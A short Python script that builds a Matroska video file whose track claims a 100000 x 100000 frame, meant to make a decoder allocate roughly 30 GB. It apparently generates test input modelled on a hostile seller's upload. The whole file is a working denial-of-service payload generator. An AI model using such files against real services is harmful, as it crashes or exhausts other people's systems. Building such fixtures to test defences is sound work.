#!/usr/bin/env python3
"""Writes a small Matroska file whose video track claims a frame of
WIDTH x HEIGHT pixels (default 100000 x 100000) and holds one block of
junk: what a hostile seller uploads to make a decoder allocate 30 GB.

usage: mkv_huge.py OUT [WIDTH HEIGHT]"""
import struct
import sys


def size(n):
    """An EBML size, in as few bytes as it takes (libmagic expects the
    DocType written that way)."""
    if n < 0x7f:
        return bytes([0x80 | n])
    if n < 0x3fff:
        return struct.pack(">H", 0x4000 | n)
    return b"\x01" + struct.pack(">Q", n)[1:]


def el(ident, payload):
    """One EBML element: its id, its size, its payload."""
    return ident + size(len(payload)) + payload


def uint(ident, v):
    return el(ident, v.to_bytes(max(1, (v.bit_length() + 7) // 8), "big"))


def main():
    out = sys.argv[1]
    w = int(sys.argv[2]) if len(sys.argv) > 2 else 100000
    h = int(sys.argv[3]) if len(sys.argv) > 3 else 100000
    header = el(b"\x1a\x45\xdf\xa3", uint(b"\x42\x86", 1) + uint(b"\x42\xf7", 1) +
                uint(b"\x42\xf2", 4) + uint(b"\x42\xf3", 8) +
                el(b"\x42\x82", b"matroska") + uint(b"\x42\x87", 4) + uint(b"\x42\x85", 2))
    info = el(b"\x15\x49\xa9\x66", uint(b"\x2a\xd7\xb1", 1000000) +
              el(b"\x44\x89", struct.pack(">d", 10000.0)))
    video = el(b"\xe0", uint(b"\xb0", w) + uint(b"\xba", h))
    track = el(b"\xae", uint(b"\xd7", 1) + uint(b"\x73\xc5", 1) + uint(b"\x83", 1) +
               el(b"\x86", b"V_MJPEG") + video)
    tracks = el(b"\x16\x54\xae\x6b", track)
    block = b"\x81\x00\x00\x80" + b"\xff\xd8\xff\xe0" + bytes(range(256)) * 4
    cluster = el(b"\x1f\x43\xb6\x75", uint(b"\xe7", 0) + el(b"\xa3", block))
    with open(out, "wb") as f:
        f.write(header + el(b"\x18\x53\x80\x67", info + tracks + cluster))


main()
